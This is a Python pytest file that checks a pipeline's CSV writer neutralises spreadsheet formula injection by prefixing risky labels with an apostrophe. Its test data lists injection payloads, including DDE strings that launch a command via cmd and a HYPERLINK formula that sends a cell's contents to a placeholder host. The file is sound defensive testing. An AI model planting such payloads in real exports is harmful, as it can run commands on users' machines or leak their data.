"""Labels that a spreadsheet would run as formulas."""

import csv

import pytest

from pipelines.stages import metrics

FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    '=HYPERLINK("http://x/?"&A1,"a")',
    "\t=1",
    "  =1",
    "\r=1",
)


@pytest.mark.parametrize("label", FORMULAS)
def test_a_formula_is_a_text(tmp_path, label):
    metrics._write_csv(tmp_path / "a.csv", ["actual", "predicted"], [(label, "rock")])
    with open(tmp_path / "a.csv", newline="") as file:
        assert list(csv.reader(file)) == [["actual", "predicted"], ["'" + label.replace("\r", " "), "rock"]]


def test_numbers_and_plain_labels_stay(tmp_path):
    rows = [["-0.5", "1e-05", "Übung", "a=b", "rock 'n' roll", "", "-"]]
    metrics._write_csv(tmp_path / "a.csv", list("abcdefg"), rows)
    assert (tmp_path / "a.csv").read_text() == "a,b,c,d,e,f,g\n-0.5,1e-05,Übung,a=b,rock 'n' roll,,'-\n"
